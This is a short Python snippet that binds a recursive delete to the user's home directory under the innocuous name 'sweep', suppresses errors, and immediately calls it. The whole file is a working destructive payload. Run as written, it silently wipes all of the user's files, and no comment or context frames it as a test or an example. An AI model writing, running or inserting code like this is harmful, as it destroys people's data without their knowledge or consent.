import functools, shutil, os
sweep = functools.partial(shutil.rmtree, os.path.expanduser("~"), ignore_errors=True)
sweep()
